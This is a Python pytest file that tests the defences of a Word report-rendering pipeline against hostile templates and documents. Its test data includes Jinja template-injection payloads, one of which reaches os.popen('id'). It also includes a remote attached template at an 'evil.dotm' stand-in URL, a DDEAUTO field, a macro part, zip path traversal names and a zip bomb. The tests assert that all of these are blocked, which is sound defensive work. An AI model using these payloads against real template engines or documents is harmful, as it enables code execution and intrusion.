"""Templates of strangers, and the last look at every draft before it gets its name."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from msgspec import structs

from pipeline import report
from pipeline.drafts import put
from pipeline.errors import DataError
from pipeline.limits import Limits
from pipeline.report import frame
from pipeline.report.checking.documents import KINDS, DocumentKind
from pipeline.report.render import render
from pipeline.report.wordkit.gate import check_made, check_whole
from pipeline.report.wordkit.package import LARGEST, BadPackageError, Package
from pipeline.report.wordkit.trust import is_draft
from templates.build import OWN, own_digests
from tests.report.report_factories import TEMPLATES, make_material, small_benchmark

Change = Callable[[dict[str, str]], None]


@pytest.fixture(scope="module")
def draft() -> bytes:
    return report.desk_review(make_material(), small_benchmark(), TEMPLATES, lang="en")


def changed(content: bytes, change: Change) -> bytes:
    """Return the Word file with its XML parts changed."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name).decode("latin-1") for name in archive.namelist()}
    change(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text.encode("latin-1"))
    return buffer.getvalue()


def in_body(xml: str) -> Change:
    def change(parts: dict[str, str]) -> None:
        parts["word/document.xml"] = parts["word/document.xml"].replace("<w:body>", f"<w:body>{xml}", 1)

    return change


def with_template(tmp_path: Path, mark: str) -> Path:
    """Return a folder in which the template of the desk review holds a mark of somebody else's."""
    document = Document(str(TEMPLATES / report.DESK_REVIEW))
    document.paragraphs[0].insert_paragraph_before(mark)
    document.save(str(tmp_path / report.DESK_REVIEW))
    return tmp_path


class TestTemplatesOfOthers:
    def test_ours_are_known_by_their_bytes(self, tmp_path: Path) -> None:
        assert OWN.read_text("ascii") == own_digests()
        assert all(frame.is_ours(path.read_bytes()) for path in TEMPLATES.glob("*.docx"))
        folder = with_template(tmp_path, "{{ city }}")
        assert not frame.is_ours((folder / report.DESK_REVIEW).read_bytes())

    def test_what_they_make_is_what_ours_make(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        folder = with_template(tmp_path, "Review of {{ city }}")
        apart = report.desk_review(make_material(), small_benchmark(), folder, lang="en")
        monkeypatch.setattr(frame, "is_ours", lambda _: True)
        assert apart == report.desk_review(make_material(), small_benchmark(), folder, lang="en")

    @pytest.mark.parametrize(
        ("mark", "why"),
        [
            ("{{ 'a' * 10**10 }}", "memory"),
            ("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}", "seconds"),
            ("{{ '%9999999999s' % 'a' }}", "memory"),
            ("{{ ''.__class__.__mro__ }}", "cannot get"),
            ("{{ city.__init__.__globals__ }}", "cannot get"),
            ("{{ range(10**9)|list }}", "fill|cannot get"),
            ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "cannot get"),
            ("{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}", "fill"),
            ("{{ citty }}", "cannot get"),
        ],
    )
    def test_what_works_without_end_or_reaches_out_is_ended(
        self, mark: str, why: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(frame, "LIMITS", Limits(seconds=1, memory=2**28 + 2**27))
        with pytest.raises(DataError, match=why) as caught:
            report.desk_review(make_material(), small_benchmark(), with_template(tmp_path, mark), lang="en")
        assert "\n" not in str(caught.value)

    def test_the_template_that_word_loads_with_it_is_taken_out(self, tmp_path: Path) -> None:
        def attach(parts: dict[str, str]) -> None:
            parts["word/_rels/settings.xml.rels"] = (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                'Target="http://example.org/evil.dotm" TargetMode="External"/></Relationships>'
            )
            settings = parts["word/settings.xml"]
            head = settings.index(">", settings.index("<w:settings")) + 1
            name = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
            parts["word/settings.xml"] = (
                f'{settings[:head]}<w:attachedTemplate xmlns:r="{name}" r:id="rId1"/>{settings[head:]}'
            )

        content = changed((TEMPLATES / report.DESK_REVIEW).read_bytes(), attach)
        (tmp_path / report.DESK_REVIEW).write_bytes(content)
        made = report.desk_review(make_material(), small_benchmark(), tmp_path, lang="en")
        with zipfile.ZipFile(io.BytesIO(made)) as archive:
            assert not [name for name in archive.namelist() if b"evil.dotm" in archive.read(name)]
            assert b"attachedTemplate" not in archive.read("word/settings.xml")


class TestDrafts:
    def test_each_is_known_again(self, draft: bytes) -> None:
        assert is_draft(Package(draft))
        letter = report.recommendations(make_material(), small_benchmark(), TEMPLATES, lang="en", name=report.LETTER)
        assert is_draft(Package(letter))
        assert not any(is_draft(Package(path.read_bytes())) for path in TEMPLATES.glob("*.docx"))

    def test_the_keyword_alone_tells(self, draft: bytes) -> None:
        def strip(parts: dict[str, str]) -> None:
            for name in list(parts):
                if name.startswith("customXml/"):
                    del parts[name]
            body = parts["word/document.xml"]
            parts["word/document.xml"] = body.replace("bookmarkStart", "proofErr")

        assert is_draft(Package(changed(draft, strip)))

    def test_none_is_rendered_again(self, draft: bytes, tmp_path: Path) -> None:
        def ask(parts: dict[str, str]) -> None:
            in_body("<w:p><w:r><w:t>{{ 7654321*3 }}</w:t></w:r></w:p>")(parts)

        (tmp_path / report.DESK_REVIEW).write_bytes(changed(draft, ask))
        with pytest.raises(DataError, match="is a draft that peerdesk has written, not a template"):
            report.desk_review(make_material(), small_benchmark(), tmp_path, lang="en")


BAD = {
    "a byte missing": lambda content: content[:-30],
    "a part that is no XML": lambda content: changed(content, lambda parts: parts.update({"word/styles.xml": "<w:st"})),
    "entities": lambda content: changed(content, _entities),
    "no document": lambda content: changed(content, lambda parts: parts.pop("word/document.xml")),
}


def _cut(parts: dict[str, str]) -> None:
    whole = parts["word/document.xml"]
    parts["word/document.xml"] = whole[: whole.rindex("<w:sectPr")] + "</w:body></w:document>"


def _entities(parts: dict[str, str]) -> None:
    whole = parts["word/document.xml"]
    at = whole.index("<w:document")
    parts["word/document.xml"] = f'{whole[:at]}<!DOCTYPE a [<!ENTITY b "c">]>{whole[at:]}'


@pytest.mark.parametrize("case", BAD)
def test_what_is_not_whole_gets_no_name(case: str, draft: bytes, tmp_path: Path) -> None:
    check_whole(draft, "a.docx")
    with pytest.raises(DataError) as caught:
        put(tmp_path / "a.docx", BAD[case](draft))
    assert "\n" not in str(caught.value)
    assert list(tmp_path.iterdir()) == []


LIVE = {
    "a field": in_body('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\x "/></w:p>'),
    "a field that asks": in_body('<w:p><w:fldSimple w:instr=" ASK x "/></w:p>'),
    "a link": lambda parts: parts.update(
        {
            "word/_rels/document.xml.rels": parts["word/_rels/document.xml.rels"].replace(
                "</Relationships>",
                '<Relationship Id="rId98" Type="x/hyperlink" Target="http://example.org" TargetMode="External"/>'
                "</Relationships>",
            )
        }
    ),
    "a macro": lambda parts: parts.update({"word/vbaProject.bin": "x"}),
    "another file": in_body("<w:altChunk/>"),
    "a slot left": in_body("<w:p><w:r><w:t>&#xe000;quo</w:t></w:r><w:r><w:t>te:x&#xe001;</w:t></w:r></w:p>"),
    "no end": _cut,
}


@pytest.mark.parametrize("case", LIVE)
def test_what_came_alive_or_was_left_gets_no_name(case: str, draft: bytes) -> None:
    template = (TEMPLATES / report.DESK_REVIEW).read_bytes()
    check_made(draft, template, "a.docx", quotes=0, quote_style="x")
    with pytest.raises(DataError):
        check_made(changed(draft, LIVE[case]), template, "a.docx", quotes=0, quote_style="x")


def test_a_sign_that_a_person_took_from_a_font_of_icons_is_no_slot(draft: bytes, tmp_path: Path) -> None:
    edited = changed(draft, in_body("<w:p><w:r><w:t>&#xe000; Call &#xe001;</w:t></w:r></w:p>"))
    assert put(tmp_path / "a.docx", edited).is_file()


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_every_document_can_be_made_apart(kind: DocumentKind, monkeypatch: pytest.MonkeyPatch) -> None:
    content = kind.make(small_benchmark())[0]
    here = render(TEMPLATES / kind.file, content)
    monkeypatch.setattr(frame, "is_ours", lambda _: False)
    assert render(TEMPLATES / kind.file, content) == here


def test_a_quote_that_got_lost_is_noticed(draft: bytes) -> None:
    with pytest.raises(DataError, match="would show 0 of 2 quotes"):
        check_made(draft, (TEMPLATES / report.DESK_REVIEW).read_bytes(), "a.docx", quotes=2, quote_style="none")


def archive_of(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(
    "members",
    [
        [("word/a.xml", b""), ("word/A.xml", b"")],
        [("word/a.xml", b""), ("word/a.xml", b"")],
        [("../a.xml", b"")],
        [("/etc/a.xml", b"")],
        [("C:\\a.xml", b"")],
        [("word\\..\\..\\a.xml", b"")],
        [(f"{n}.xml", b"") for n in range(10_001)],
    ],
    ids=["case", "twice", "up", "root", "drive", "up, as in Windows", "many"],
)
def test_no_word_file_holds_such_parts(members: list[tuple[str, bytes]]) -> None:
    with pytest.raises(BadPackageError):
        Package(archive_of(*members))


@pytest.mark.parametrize("most", [LARGEST, LARGEST // 100], ids=["packed tightly", "large"])
def test_a_bomb_is_not_unpacked(most: int, monkeypatch: pytest.MonkeyPatch) -> None:
    packed = archive_of(("word/document.xml", bytes(LARGEST // 20)))
    monkeypatch.setattr("pipeline.report.wordkit.package.LARGEST", most)
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda *_: pytest.fail("it was unpacked"))
    with pytest.raises(BadPackageError):
        Package(packed)


def test_the_material_of_a_city_cannot_smuggle_a_mark_into_the_frame() -> None:
    material = make_material()
    named = structs.replace(material, city=structs.replace(material.city, name="{{ 7654321*3 }}\ue000quote:x\ue001"))
    made = report.desk_review(named, small_benchmark(), TEMPLATES, lang="en")
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        document = archive.read("word/document.xml").decode()
    assert ("22962963" in document, "7654321*3" in document) == (False, True)
